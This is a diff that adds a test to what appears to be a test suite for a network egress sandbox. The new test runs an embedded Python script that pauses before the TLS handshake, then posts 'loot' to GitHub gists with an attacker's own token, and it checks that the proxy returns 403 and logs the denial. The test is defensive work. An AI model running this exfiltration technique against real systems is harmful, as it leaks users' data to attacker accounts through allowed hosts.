@@ -104,6 +104,25 @@ test("attack: an attacker's own token at an allowed GitHub host", async (scene) 
   assert.deepEqual([denied[0]!.status, denied[0]!.hint], [403, "--foreign-tokens allow"]);
 });
 
+test("attack: a pause before the handshake, then the attacker's own token", async (scene) => {
+  const script = `import socket, ssl, time
+raw = socket.create_connection(("api.github.com", 443))
+time.sleep(1)
+tls = ssl.create_default_context().wrap_socket(raw, server_hostname="api.github.com")
+tls.sendall(b"POST /gists HTTP/1.1\\r\\nHost: api.github.com\\r\\nConnection: close\\r\\n"
+            b"Authorization: token ${EVIL}\\r\\nContent-Length: 4\\r\\n\\r\\nloot")
+print(tls.recv(65536).split(b"\\r\\n")[0].decode())`;
+  const run = await scene.run({
+    policy: "api.github.com",
+    args: ["--foreign-tokens", "deny"],
+    env,
+    command: ["python3", "-c", script],
+  });
+  assert.equal(run.stdout, "HTTP/1.1 403 Forbidden\n", run.stderr);
+  assert.deepEqual(await arrived(scene), []);
+  one(run.log, { type: "https", policy: "deny", reason: "foreign_token" });
+});
+
 test("attack: pushing loot to the attacker's repository with his token", async (scene) => {
   const work = `${scene.folder}/work`;
   await git("clone", "-q", `${scene.internet.folder}/git/project.git`, work);
